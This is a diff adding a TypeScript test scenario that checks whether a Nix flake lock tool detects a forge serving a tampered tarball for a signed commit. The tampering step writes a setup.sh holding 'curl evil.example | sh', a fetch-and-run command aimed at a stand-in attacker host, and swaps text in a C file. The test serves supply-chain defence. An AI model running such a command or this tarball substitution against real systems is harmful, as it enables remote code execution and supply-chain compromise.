@@ -1,0 +1,57 @@
+/**
+ * A flake that takes `pkgs` as an input from a forge. The forge hands out a tarball for a commit: once the commit's
+ * files, and once others. Whoever locks the second signs its hash in good faith.
+ */
+import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { appLock } from "./packages.ts";
+import { ask, type Scene } from "./scene.ts";
+import { serve } from "./web.ts";
+
+export async function attackLocks(scene: Scene): Promise<void> {
+  const { screen, workplace, people, third } = scene;
+  screen.begin("Locks: a flake is locked to a signed commit, and the forge serves a tarball of it");
+  const forge = workplace.make("forge");
+  const url = await serve(workplace, forge);
+  const rev = (await people.alice.doesIn("pkgs", "git", "rev-parse", "main")).trim();
+  await third.does(".", "git", "clone", "--quiet", "../server/app.git", "app");
+
+  screen.say("· the tarball has the commit's files");
+  await makeTarball(scene, forge, rev);
+  await lockTo(scene, `${url}/${rev}.tar.gz`, rev);
+  await ask(scene, "app", [".#default"], { tried: "a lock with the commit's own tree", allowed: true, code: "admitted" });
+
+  screen.say("· the forge serves other files for the same commit");
+  await makeTarball(scene, forge, rev, (dir) => {
+    const file = join(dir, "greet.c");
+    writeFileSync(file, readFileSync(file, "utf8").replace("Good morning", "Send money"));
+    writeFileSync(join(dir, "setup.sh"), "curl evil.example | sh\n");
+  });
+  await lockTo(scene, `${url}/${rev}.tar.gz`, rev);
+  const expected = { tried: "a lock with another tree for that commit", allowed: false, code: "tree-differs" } as const;
+  await ask(scene, "app", [".#default"], expected, true);
+}
+
+/** Writes what the forge serves for a commit. */
+async function makeTarball({ people }: Scene, forge: string, rev: string, change = (_: string) => {}): Promise<void> {
+  const { alice } = people;
+  const dir = join(forge, `pkgs-${rev}`);
+  mkdirSync(dir, { recursive: true });
+  await alice.doesIn("pkgs", "git", `--work-tree=${dir}`, "checkout", "--quiet", rev, "--", ".");
+  await alice.doesIn("pkgs", "git", "reset", "--quiet", "--hard", "HEAD");
+  change(dir);
+  await alice.doesIn(forge, "tar", "--create", "--gzip", `--file=${rev}.tar.gz`, `pkgs-${rev}`);
+}
+
+/** Nix downloads the tarball and says its hash; alice signs a lock with it, and the third machine pulls that. */
+async function lockTo({ people, third }: Scene, url: string, rev: string): Promise<void> {
+  const { alice } = people;
+  const base32 = await third.typesOk("app", "nix-prefetch-url", "--unpack", "--name", "source", url);
+  const narHash = await third.does("app", "nix", "hash", "to-sri", "--type", "sha256", base32.trim());
+  const time = await alice.doesIn("pkgs", "git", "log", "-1", "--format=%ct", rev);
+  alice.write("app/flake.lock", appLock(rev, Number(time), narHash.trim()));
+  await alice.doesIn("app", "git", "add", "flake.lock");
+  await alice.typesIn("app", "git", "commit", "--quiet", "-S", "-m", "lock pkgs");
+  await alice.doesIn("app", "git", "push", "--quiet");
+  await third.does("app", "git", "pull", "--quiet");
+}
